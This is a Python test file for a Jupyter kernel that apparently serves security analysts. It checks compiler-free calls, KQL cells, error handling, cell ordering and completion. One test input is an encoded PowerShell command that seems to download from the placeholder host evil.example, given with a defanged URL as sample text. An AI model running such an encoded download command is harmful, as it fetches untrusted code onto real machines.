"""Cells that need no compiler: one call of ours with literal arguments, and `%%kql`."""

import re
import time

import pytest

from jupyter import Kernel

# What to call each kind of argument with; a call with an argument that is not here fails the test below.
ARGUMENTS = {
    "text": "powershell -enc aQB3AHIAIABoAHQAdABwADoALwAvAGUAdgBpAGwALgBlAHgAYQBtAHAAbABlAC8AYQA= hxxp://evil[.]example/b",
    "name": "adelev@contoso.com",
    "names, with commas between them": "adelev@contoso.com, johns, nobody",
    "host": "SRV-FIN01",
    "KQL text": "SigninLogs | summarize count() by ResultType",
    "zone": "Europe/Berlin",
    "words": "account",
    "name, address or any other text": "adelev",
}


@pytest.fixture(scope="module")
def without_compiler(tmp_path_factory):
    """A kernel that finds no rustc: what it answers was not compiled."""
    empty = tmp_path_factory.mktemp("path")
    kernel = Kernel(NBLT_WORKSPACE="", PATH=f"/usr/bin:/bin:{empty}")
    yield kernel
    kernel.stop()


def registered_calls(kernel):
    """Every call that help() lists, with the names of its arguments in quotes."""
    # Not what a sentence says of a result: acc.save("folder")?
    rows = re.findall(r"(?<![\w.])((?:\w+::nblt\(\)\.)?\w+\([^()\n]*\)\??)", kernel.run("help()").plain)
    calls = [it for it in dict.fromkeys(rows) if not it.startswith(("set_span", "last", "between"))]
    assert len(calls) >= 6, calls
    return calls


def with_arguments(call, folder, kept):
    examples = ARGUMENTS | {"folder or file": str(folder), "file or folder": str(folder), "folder": str(kept)}

    def value(match):
        assert match[1] in examples, f"name an example for the argument {match[1]!r} of {call}"
        return '"' + examples[match[1]] + '"'

    return re.sub(r'"([^"]*)"', value, call)


def comparable(outcome):
    """All outputs in their last state, without what differs from run to run."""
    text = "\n----\n".join(f"{it.get('text/plain', '')}\n{it.get('text/html', '')}" for it in outcome.shown)
    text = re.sub(r"\d+\.\d+ s\b", "N s", text)
    return re.sub(r"[0-9a-f]{20,}|nblt-\d+-\d+", "ID", text)


def test_every_call_shows_the_same_with_and_without_the_compiler(tmp_path):
    kernel = Kernel(NBLT_WORKSPACE="")
    folder, kept = tmp_path / "exported", tmp_path / "kept"
    folder.mkdir()
    (folder / "SigninLogs.csv").write_text("TimeGenerated,UserPrincipalName\n2026-03-05T10:00:00Z,kim@contoso.com\n")
    (folder / "networks.csv").write_text("range,name\n192.0.2.0/24,Office\n")
    outcome = kernel.run(f'Account::nblt().account_summary("adelev@contoso.com")?.save("{kept}")?')
    assert outcome.status == "ok", outcome.error
    calls = [with_arguments(it, folder, kept) for it in registered_calls(kernel)]
    calls.sort(key=lambda it: it.startswith("connect"))
    for call in calls:
        direct = kernel.run(call)
        # A block is no single call, so this goes to the compiler.
        compiled = kernel.run("{ " + call + " }")
        assert direct.status == compiled.status == "ok", f"{call}: {direct.error} {compiled.error}"
        assert comparable(direct) == comparable(compiled), call
    kernel.stop()


def test_an_error_is_the_same_with_and_without_the_compiler(kernel):
    for call in ['query("SigninLog | take 1")?', 'Account::nblt().account_summary("")?', 'connect("/no/such/folder")?']:
        direct, compiled = kernel.run(call), kernel.run("{ " + call + " }")
        assert direct.status == compiled.status == "error"
        assert direct.error == compiled.error and direct.error.strip(), call
        shown = call.removesuffix("?")
        direct, compiled = kernel.run(shown), kernel.run("{ " + shown + " }")
        assert direct.status == compiled.status == "ok"
        assert comparable(direct) == comparable(compiled) and direct.plain, call


def test_calls_are_answered_without_any_compiler(without_compiler):
    outcome = without_compiler.run('Account::nblt().account_summary("adele")?')
    assert outcome.status == "ok" and "adelev@contoso.com" in outcome.plain
    outcome = without_compiler.run("%%kql\nSigninLogs | count")
    assert outcome.status == "ok" and "Count" in outcome.plain
    outcome = without_compiler.run("1 + 1")
    assert outcome.status == "error"
    assert "rustc" in outcome.error and "rustup.rs" in outcome.error, "says what is missing and how to get it"
    assert without_compiler.run("tables()?").status == "ok"


def test_the_first_call_is_answered_before_the_compiler_is_ready():
    started = time.monotonic()
    kernel = Kernel(NBLT_WORKSPACE="")
    try:
        assert "adelev@contoso.com" in kernel.run('Account::nblt().account_summary("adele")?').plain
        answered = time.monotonic() - started
        assert kernel.run("1 + 1").plain == "2"
        compiled = time.monotonic() - started
        assert answered < compiled
    finally:
        kernel.stop()


def test_a_binding_shows_at_once_and_is_a_variable(kernel):
    outcome = kernel.run('let acc = Account::nblt().account_summary("adelev@contoso.com")?;')
    assert outcome.status == "ok" and "adelev@contoso.com" in outcome.plain
    assert int(kernel.run("acc.matches().len()").plain) >= 1
    outcome = kernel.run("%%kql failures\nSigninLogs | where ResultType != '0' | project UserPrincipalName, ResultType")
    assert outcome.status == "ok" and "ResultType" in outcome.plain
    assert kernel.run("failures.width()").plain == "2"


def test_a_redefined_name_is_the_analysts(kernel):
    kernel.run("fn tables_of_mine() -> u32 { 7 }")
    assert kernel.run("tables()?").status == "ok"
    fresh = Kernel(NBLT_WORKSPACE="")
    try:
        assert fresh.run("let help: fn() -> u32 = || 41 + 1;").status == "ok"
        assert fresh.run("help()").plain == "42"
    finally:
        fresh.stop()


def test_cells_keep_their_order_and_their_numbers(kernel):
    codes = ["let order = 1;", "tables()?", "order + 1", "%%kql\nSigninLogs | count", "order + 2"]
    requests = [kernel.client.execute(it, allow_stdin=False) for it in codes]
    ends, numbers = [], []
    while len(ends) < len(requests):
        message = kernel.client.get_iopub_msg(timeout=60)
        if message["msg_type"] == "execute_input":
            numbers.append(message["content"]["execution_count"])
        if message["msg_type"] == "status" and message["content"]["execution_state"] == "idle":
            ends.append(message["parent_header"]["msg_id"])
    assert ends == requests
    assert numbers == list(range(numbers[0], numbers[0] + len(codes)))
    for request, number in zip(requests, numbers, strict=True):
        reply = kernel.client.get_shell_msg(timeout=10)
        assert reply["parent_header"]["msg_id"] == request
        assert reply["content"]["execution_count"] == number


def test_cells_behind_a_failed_one_are_not_run(kernel):
    # Both written before either is sent, as by a page that runs all cells: the first fails within a millisecond.
    codes = ['query("nonsense |")?', "let must_not_be = 1;"]
    options = {"silent": False, "store_history": True, "user_expressions": {}, "allow_stdin": False}
    requests = [
        kernel.client.session.msg("execute_request", {"code": it, "stop_on_error": True, **options}) for it in codes
    ]
    for request in requests:
        kernel.client.shell_channel.send(request)
    failing, behind = (it["header"]["msg_id"] for it in requests)
    replies = {}
    while len(replies) < 2:
        reply = kernel.client.get_shell_msg(timeout=60)
        replies[reply["parent_header"]["msg_id"]] = reply["content"]["status"]
    assert replies == {failing: "error", behind: "aborted"}
    kernel.drain()
    assert kernel.run("must_not_be").status == "error"


def test_a_wrong_kql_cell_shows_the_place(kernel):
    outcome = kernel.run("%%kql\nSigninLogs\n| where UserPrincipleName == 'x'")
    assert outcome.status == "error"
    assert "^" in outcome.error and "UserPrincipalName" in outcome.error
    outcome = kernel.run("%%kql SigninLogs | take 1")
    assert outcome.status == "error" and "at most one name" in outcome.error


def asked(kernel, request):
    while True:
        reply = kernel.client.get_shell_msg(timeout=60)
        if reply["parent_header"]["msg_id"] == request:
            return reply["content"]


def test_tab_and_shift_tab_in_a_kql_cell(without_compiler):
    client = without_compiler.client
    code = "%%kql\nSigninLogs | where UserPr"
    reply = asked(without_compiler, client.complete(code, len(code)))
    assert "UserPrincipalName" in reply["matches"]
    assert code[reply["cursor_start"] : reply["cursor_end"]] == "UserPr"
    reply = asked(without_compiler, client.inspect("%%kql\nSigninLogs | where x", 22))
    assert reply["found"] and "where" in reply["data"]["text/plain"]


def test_tab_in_a_rust_cell_offers_our_calls(kernel):
    code = "Account::nblt().account_s"
    reply = asked(kernel, kernel.client.complete(code, len(code)))
    assert any(it.startswith("account_summary") for it in reply["matches"]), reply


def test_the_history_has_the_cells_of_this_kernel(kernel):
    kernel.run("let remembered = 1;")
    reply = asked(kernel, kernel.client.history(hist_access_type="tail", n=1))
    assert reply["history"][-1][2] == "let remembered = 1;"
